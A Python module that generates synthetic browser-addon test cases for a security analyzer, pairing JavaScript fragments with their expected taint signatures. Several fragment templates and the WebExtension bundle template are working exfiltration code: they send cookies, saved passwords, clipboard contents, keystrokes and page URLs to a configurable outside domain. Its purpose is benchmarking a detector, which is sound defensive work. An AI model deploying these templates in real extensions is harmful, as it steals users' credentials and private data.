"""The verdict-carrying fragment library of the corpus generator.

A *fragment* is a small, self-contained piece of addon behavior whose
security-signature contribution is known **by construction**: each
builder returns both the JavaScript text and the exact signature entries
(:meth:`repro.signatures.Signature.render` lines) that the full pipeline
infers for it. Generated addons are compositions of fragments, and the
expected signature of the whole addon is the set union of its fragments'
entries — which holds because fragments are:

- **name-isolated** — every identifier a fragment introduces is drawn
  from a generator-unique pool, so no fragment's dataflow reaches
  another's;
- **top-level and order-independent** — with one audited exception:
  a fragment that *writes* ``content.location`` poisons the value any
  later ``content.location`` *reader* sees (the written prefix string
  leaks into the reader's inferred sink domain), so writers and readers
  of the location object carry conflicting ``group`` tags and the
  generator never mixes them (see ``tests/corpusgen``, which proves
  reorder/rename invariance property-style).

The expected entries are *pinned*, not derived: every template is
verified against the real pipeline by ``pytest -m fleet``
(``tests/corpusgen/test_generator.py``), which is what licenses the
fleet benchmark to treat a signature mismatch at 1k-addon scale as a
soundness bug rather than a generator bug.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

# ----------------------------------------------------------------------
# Fragment model


@dataclass(frozen=True)
class FragmentSpec:
    """One fragment template.

    ``arity`` is how many fresh identifiers the builder needs;
    ``needs_domain`` whether it takes a sink-domain URL; ``group`` a
    conflict tag (at most one of ``location-write`` per addon, and never
    together with ``location-read``); ``dynamic`` marks dynamic-code
    fragments (``eval``), which the relevance prefilter and the
    change-surface certificate both refuse — the generator keeps them
    out of update-chain bases so the incremental fast lane stays
    exercisable.
    """

    kind: str
    arity: int
    needs_domain: bool
    group: str = ""
    dynamic: bool = False
    flow: bool = True  #: contributes signature entries (False = benign)
    #: Contains a computed property access the computed-key resolver
    #: cannot bound (param-keyed), so the prefilter can never skip an
    #: addon holding it — kept out of the generator's benign draw pool
    #: (it would silently cut the fleet's prefilter hit rate) but in the
    #: library for tests that need an irreducibly-dynamic surface.
    dynamic_surface: bool = False


@dataclass(frozen=True)
class FragmentInstance:
    """A fragment with its slots filled: concrete text + exact entries."""

    kind: str
    text: str
    entries: tuple[str, ...]
    names: tuple[str, ...] = ()
    domain: str | None = None
    group: str = ""
    dynamic: bool = False


# ----------------------------------------------------------------------
# Single-file fragment builders
#
# Every builder takes (names, domain) and returns (text, entries). The
# sink URL is always built as ``'<domain>' + <tainted>``, so the
# inferred sink domain is the prefix element ``<domain>...`` — exactly
# what the entry strings below pin.


def _url_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = content.location.href;\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('GET', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"url -type1-> send({domain}...)",)


def _cookie_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = content.document.cookie;\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('POST', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"cookie -type1-> send({domain}...)",)


def _password_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = Services.logins.getAllLogins();\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('POST', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"password -type1-> send({domain}...)",)


def _clipboard_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = Services.clipboard.getData();\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('POST', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"clipboard -type1-> send({domain}...)",)


def _key_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    e, x = names
    text = (
        f"window.addEventListener('keypress', function ({e}) {{\n"
        f"  var {x} = new XMLHttpRequest();\n"
        f"  {x}.open('POST', '{domain}' + {e}.keyCode);\n"
        f"  {x}.send(null);\n"
        f"}}, false);\n"
    )
    return text, (f"key -type1-> send({domain}...)",)


def _redirect(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    text = f"content.location.href = '{domain}' + content.location.href;\n"
    return text, (f"url -type1-> redirect({domain}...)",)


def _eval_use(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a = names[0]
    text = f"var {a} = eval('3 + 4');\n"
    return text, ("eval",)


def _scriptloader_use(
    names: tuple[str, ...], domain: str
) -> tuple[str, tuple[str, ...]]:
    text = f"Services.scriptloader.loadSubScript('{domain}helper.js');\n"
    return text, ("scriptloader",)


# Benign shapes: pure computation with no spec-surface names, so an
# addon made only of these is provably irrelevant and the prefilter can
# skip the interpreter for it (that is the fleet's prefilter workload).


def _benign_counter(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = 0;\n"
        f"function {b}(v) {{ return v + 2; }}\n"
        f"{a} = {b}({a}) * 3;\n"
        f"alert('count ' + {a});\n"
    )
    return text, ()


def _benign_strings(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = 'theme-';\n"
        f"var {b} = {a} + 'dark' + '-wide';\n"
        f"if ({b}.length > 4) {{ alert({b}); }}\n"
    )
    return text, ()


def _benign_loop(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = 1;\n"
        f"for (var {b} = 0; {b} < 5; {b} = {b} + 1) {{\n"
        f"  {a} = {a} + {b};\n"
        f"}}\n"
    )
    return text, ()


def _benign_object(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = {{ total: 2, label: 'ok' }};\n"
        f"var {b} = {a}.total + 7;\n"
        f"{a}.total = {b};\n"
    )
    return text, ()


def _benign_table(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    """Computed property access with a *provably constant* key: the
    computed-key resolver bounds ``a[k]`` to ``{'alpha'}``, so the
    prefilter still skips an addon made of these — without resolution
    the site reads as dynamic and disqualifies the whole addon."""
    a, k, b = names
    text = (
        f"var {a} = {{ alpha: 4, beta: 9 }};\n"
        f"var {k} = 'alpha';\n"
        f"var {b} = {a}[{k}] + {a}['beta'];\n"
    )
    return text, ()


def _benign_pick(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    """The irreducibly-dynamic variant: the key is a function parameter,
    which the resolver (soundly) refuses to bound — the site stays a
    residual dynamic-property site and the prefilter must run the full
    pipeline. Benign all the same: the object holds no spec surface."""
    a, f, b = names
    text = (
        f"var {a} = {{ gamma: 5, delta: 6 }};\n"
        f"function {f}(o, key) {{ return o[key]; }}\n"
        f"var {b} = {f}({a}, 'gamma') + {f}({a}, 'delta');\n"
    )
    return text, ()


#: The library. Flow fragments first, then APIs, then benign shapes.
FRAGMENTS: dict[str, tuple[FragmentSpec, object]] = {
    "url-exfil": (
        FragmentSpec("url-exfil", 2, True, group="location-read"), _url_exfil,
    ),
    "cookie-exfil": (FragmentSpec("cookie-exfil", 2, True), _cookie_exfil),
    "password-exfil": (FragmentSpec("password-exfil", 2, True), _password_exfil),
    "clipboard-exfil": (
        FragmentSpec("clipboard-exfil", 2, True), _clipboard_exfil,
    ),
    "key-exfil": (FragmentSpec("key-exfil", 2, True), _key_exfil),
    "redirect": (
        FragmentSpec("redirect", 0, True, group="location-write"), _redirect,
    ),
    "eval-use": (
        FragmentSpec("eval-use", 1, False, dynamic=True), _eval_use,
    ),
    "scriptloader-use": (
        FragmentSpec("scriptloader-use", 0, True), _scriptloader_use,
    ),
    "benign-counter": (
        FragmentSpec("benign-counter", 2, False, flow=False), _benign_counter,
    ),
    "benign-strings": (
        FragmentSpec("benign-strings", 2, False, flow=False), _benign_strings,
    ),
    "benign-loop": (
        FragmentSpec("benign-loop", 2, False, flow=False), _benign_loop,
    ),
    "benign-object": (
        FragmentSpec("benign-object", 2, False, flow=False), _benign_object,
    ),
    "benign-table": (
        FragmentSpec("benign-table", 3, False, flow=False), _benign_table,
    ),
    "benign-pick": (
        FragmentSpec("benign-pick", 3, False, flow=False, dynamic_surface=True),
        _benign_pick,
    ),
}

FLOW_KINDS: tuple[str, ...] = tuple(
    kind for kind, (spec, _) in FRAGMENTS.items() if spec.flow
)
#: The generator's benign draw pool; dynamic-surface shapes stay out
#: (an addon holding one can never be prefiltered).
BENIGN_KINDS: tuple[str, ...] = tuple(
    kind
    for kind, (spec, _) in FRAGMENTS.items()
    if not spec.flow and not spec.dynamic_surface
)
DYNAMIC_SURFACE_KINDS: tuple[str, ...] = tuple(
    kind for kind, (spec, _) in FRAGMENTS.items() if spec.dynamic_surface
)


def build_fragment(
    kind: str, names: tuple[str, ...], domain: str | None
) -> FragmentInstance:
    """Instantiate one fragment; ``names`` must supply ``spec.arity``
    fresh identifiers and ``domain`` a sink URL when the spec needs one."""
    spec, builder = FRAGMENTS[kind]
    if len(names) < spec.arity:
        raise ValueError(f"{kind} needs {spec.arity} names, got {len(names)}")
    resolved_domain = domain if spec.needs_domain else ""
    if spec.needs_domain and not resolved_domain:
        raise ValueError(f"{kind} needs a sink domain")
    text, entries = builder(tuple(names[: spec.arity]), resolved_domain)  # type: ignore[operator]
    return FragmentInstance(
        kind=kind,
        text=text,
        entries=entries,
        names=tuple(names[: spec.arity]),
        domain=resolved_domain if spec.needs_domain else None,
        group=spec.group,
        dynamic=spec.dynamic,
    )


def dead_code_block(names: tuple[str, ...], salt: int) -> str:
    """A verdict-preserving filler block: straight-line, call-free,
    touching only its own fresh names — which also makes it exactly the
    change shape the diffvet change-surface certificate can certify."""
    a, b = names
    return (
        f"var {a} = {salt % 97};\n"
        f"var {b} = {a} * 2 + {salt % 13};\n"
        f"{b} = {b} - {a};\n"
    )


# ----------------------------------------------------------------------
# WebExtension bundle templates


@dataclass(frozen=True)
class BundleTemplate:
    """A message-passing extension with a known signature.

    The shape is the DoubleX cookie-exfiltration pattern the webext
    mini-corpus pins (``examples/extensions/cookie_exfil*``): a content
    script relays page data to the background, whose handler reads every
    cookie and posts it out. ``guarded`` wraps the leak in a
    sender-identity check, which the conditional-flow rule downgrades to
    ``type3`` — both variants' exact entries are pinned here and
    verified by the fleet test suite.
    """

    domain: str
    guarded: bool
    #: Extra benign content scripts riding along (dead weight).
    extra_content: tuple[str, ...] = ()
    #: Dead-code padding appended per file: ``path -> code``.
    padding: tuple[tuple[str, str], ...] = ()
    benign: bool = False
    name: str = "generated"

    def entries(self) -> tuple[str, ...]:
        if self.benign:
            return ()
        flow_type = "type3" if self.guarded else None
        return (
            f"cookie -{flow_type or 'type1'}-> send({self.domain}...)",
            f"message -{flow_type or 'type2'}-> send({self.domain}...)",
            f"url -{flow_type or 'type2'}-> send({self.domain}...)",
        )

    def files(self) -> tuple[tuple[str, str], ...]:
        padding = dict(self.padding)
        if self.benign:
            background = "var idle0 = 1;\nidle0 = idle0 + 1;\n"
            content = "var idle1 = 2;\nidle1 = idle1 * 2;\n"
        else:
            guard_open = (
                "if (sender.url === 'https://app.example/') { "
                if self.guarded else ""
            )
            guard_close = " }" if self.guarded else ""
            background = (
                "chrome.runtime.onMessage.addListener("
                "function (m, sender, r) { "
                + guard_open
                + "chrome.cookies.getAll({domain: m.d}, function (data) { "
                + f"fetch('{self.domain}' + data[0].value + '&m=' + m.tag); "
                + "}); "
                + guard_close
                + "});\n"
            )
            content = (
                "chrome.runtime.sendMessage("
                "{d: document.location.hostname, tag: 'p'});\n"
            )
        produced = [
            ("bg.js", background + padding.get("bg.js", "")),
            ("c0.js", content + padding.get("c0.js", "")),
        ]
        for index, extra in enumerate(self.extra_content):
            path = f"c{index + 1}.js"
            produced.append((path, extra + padding.get(path, "")))
        return tuple(sorted(produced))

    def manifest_text(self) -> str:
        content_entries = [
            {"matches": ["<all_urls>"], "js": [path]}
            for path, _ in self.files()
            if path.startswith("c")
        ]
        return json.dumps(
            {
                "name": self.name,
                "version": "1.0",
                "manifest_version": 3,
                "permissions": [] if self.benign else ["cookies"],
                "background": {"service_worker": "bg.js"},
                "content_scripts": content_entries,
            },
            sort_keys=True,
        )

    def to_source(self) -> str:
        from repro.webext.loader import ExtensionBundle

        return ExtensionBundle(
            name=self.name,
            manifest_text=self.manifest_text(),
            files=self.files(),
        ).to_text()
